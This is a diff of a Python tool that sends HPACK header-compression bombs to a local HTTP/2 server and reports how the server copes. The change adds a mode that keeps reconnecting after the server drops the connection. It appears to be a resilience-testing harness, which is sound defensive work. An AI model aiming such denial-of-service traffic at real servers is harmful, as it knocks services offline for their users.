@@ -1,9 +1,10 @@
 """Sends HPACK bombs to a cleartext HTTP/2 listener at 127.0.0.1:PORT: few bytes that stand for many.
 
-    hpack_bomb.py PORT [SHAPE] [--seconds S] [--frames N]
+    hpack_bomb.py PORT [SHAPE] [--seconds S] [--frames N] [--again]
 
 Ends with the connection, or with the first of the two bounds, and prints one line of JSON: what was sent, what it
-decodes to, and how the connection ended. Shapes:
+decodes to, and how the connection ended. With `--again` it connects anew when its connection was ended, until its time
+is up, and the line holds the sums. Shapes:
 
     frame         one request a frame of 16 KiB, every byte of which is a field of 4 KB (the default)
     continuation  the same in one request's CONTINUATION frames
@@ -102,20 +103,14 @@ class Peer:
             self.unread = self.unread[end:]
 
 
-def main() -> None:
-    parser = argparse.ArgumentParser()
-    parser.add_argument("port", type=int)
-    parser.add_argument("shape", nargs="?", default="frame", choices=["frame", "continuation", "trailers", "over", "within"])
-    parser.add_argument("--seconds", type=float, default=5)
-    parser.add_argument("--frames", type=int, default=100_000)
-    options = parser.parse_args()
-
-    connection = socket.create_connection(("127.0.0.1", options.port), timeout=5)
+def attack(port: int, shape: str, frames_max: int, deadline: float) -> dict:
+    """One connection, as long as it lasts and no further than the two bounds."""
+    connection = socket.create_connection(("127.0.0.1", port), timeout=5)
     connection.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
-    peer, began = Peer(), time.monotonic()
+    peer = Peer()
     sent = wire = decoded = streams = 0
-    for bytes_, worth in frames(options.shape):
-        if sent >= options.frames or time.monotonic() - began >= options.seconds:
+    for bytes_, worth in frames(shape):
+        if sent >= frames_max or time.monotonic() >= deadline:
             break
         try:
             connection.settimeout(5)
@@ -126,16 +121,33 @@ def main() -> None:
         sent, wire, decoded = sent + 1, wire + len(bytes_), decoded + worth
         streams += bytes_[3] == HEADERS and bool(bytes_[4] & END_STREAM)
         peer.read(connection, 0)
-        while streams - peer.streams_ended >= STREAMS_MAX and not peer.has_ended and time.monotonic() - began < options.seconds:
+        while streams - peer.streams_ended >= STREAMS_MAX and not peer.has_ended and time.monotonic() < deadline:
             peer.read(connection, 0.1)
         if peer.has_ended:
             break
     if not peer.has_ended:
         peer.read(connection, 0.5)
-    print(json.dumps({
-        "shape": options.shape, "frames": sent, "wire_bytes": wire, "decoded_bytes": decoded,
-        "seconds": round(time.monotonic() - began, 3), "requests_answered": peer.streams_ended, "closed": peer.closed, "goaway_code": peer.code,
-    }))
+    connection.close()
+    return {"connections": 1, "frames": sent, "wire_bytes": wire, "decoded_bytes": decoded,
+            "requests_answered": peer.streams_ended, "closed": int(peer.closed), "goaway_code": peer.code}
+
+
+def main() -> None:
+    parser = argparse.ArgumentParser()
+    parser.add_argument("port", type=int)
+    parser.add_argument("shape", nargs="?", default="frame", choices=["frame", "continuation", "trailers", "over", "within"])
+    parser.add_argument("--seconds", type=float, default=5)
+    parser.add_argument("--frames", type=int, default=100_000)
+    parser.add_argument("--again", action="store_true")
+    options = parser.parse_args()
+
+    began = time.monotonic()
+    deadline = began + options.seconds
+    total = attack(options.port, options.shape, options.frames, deadline)
+    while options.again and time.monotonic() < deadline and total["frames"] < options.frames:
+        one = attack(options.port, options.shape, options.frames - total["frames"], deadline)
+        total = {key: one[key] if key == "goaway_code" else total[key] + one[key] for key in total}
+    print(json.dumps({"shape": options.shape, "seconds": round(time.monotonic() - began, 3), **total}))
 
 
 main()
